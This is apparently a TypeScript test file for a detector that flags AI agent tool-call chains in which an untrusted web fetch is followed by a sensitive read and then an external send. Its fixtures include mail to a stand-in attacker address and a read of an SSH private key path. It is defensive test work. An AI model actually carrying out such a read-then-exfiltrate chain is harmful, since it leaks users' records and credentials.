import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ToolCall } from '../sidecar-event.ts';
import { findForbiddenFlows } from './data-flow.ts';
import type { ReportedToolCall } from './tool-calls.ts';

/** `e1 fetch_page read` is an executed call. */
function call(words: string, args: ToolCall['arguments'] = {}, executed = true): ReportedToolCall {
  const [eventId = '', name = '', effect = 'read'] = words.split(' ');
  return { eventId, tool: { name, effect: effect as ToolCall['effect'], arguments: args, executed } };
}

const page = call('e1 fetch_page read', { url: 'https://blog.example/post' });
const records = call('e2 list_customer_records read');
const mail = call('e3 send_mail send', { to: 'eve@evil.example', body: '…' });
const count = call('e4 count_rows read');

describe('findForbiddenFlows', () => {
  it('finds untrusted read → sensitive read → external write and names the events in order', () => {
    expect(findForbiddenFlows([page, count, records, count, mail])).toMatchObject([{ kind: 'toxic', eventIds: ['e1', 'e2', 'e3'] }]);
  });

  it('tells a plain leak from a toxic flow', () => {
    expect(findForbiddenFlows([records, mail])).toMatchObject([{ kind: 'leak', eventIds: ['e2', 'e3'] }]);
    expect(findForbiddenFlows([records, page, mail])).toMatchObject([{ kind: 'leak' }]);
  });

  it('lets each part alone pass', () => {
    for (const calls of [[page, mail], [page, records], [mail, records], [page], [mail, page, count]])
      expect(findForbiddenFlows(calls)).toEqual([]);
  });

  it('does not count what the guard of the agent refused', () => {
    expect(findForbiddenFlows([page, records, call('e3 send_mail send', { to: 'eve@evil.example' }, false)])).toEqual([]);
  });

  it('does not call a message to the own house external', () => {
    expect(
      findForbiddenFlows([page, records, call('e3 send_mail send', { to: 'ann@corp.example' })], { ownHosts: ['corp.example'] }),
    ).toEqual([]);
  });

  it('takes the word of a policy over a guess', () => {
    const policy = { untrusted: ['x_*'], sensitive: ['y'], external: ['z'] };
    expect(findForbiddenFlows([call('1 x_read read'), call('2 y read'), call('3 z write')], policy)).toMatchObject([{ kind: 'toxic' }]);
    expect(findForbiddenFlows([page, records, mail], policy)).toEqual([]);
  });

  it('knows files of credentials by their path', () => {
    expect(findForbiddenFlows([page, call('e2 open read', { path: '/home/ann/.ssh/id_rsa' }), mail])).toMatchObject([{ kind: 'toxic' }]);
  });

  it('calls in between never hide a flow', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(count, call('e5 add write')), { maxLength: 6 }),
        fc.array(fc.constant(count), { maxLength: 6 }),
        (first, second) => {
          expect(findForbiddenFlows([page, ...first, records, ...second, mail])[0]?.kind).toBe('toxic');
        },
      ),
    );
  });
});
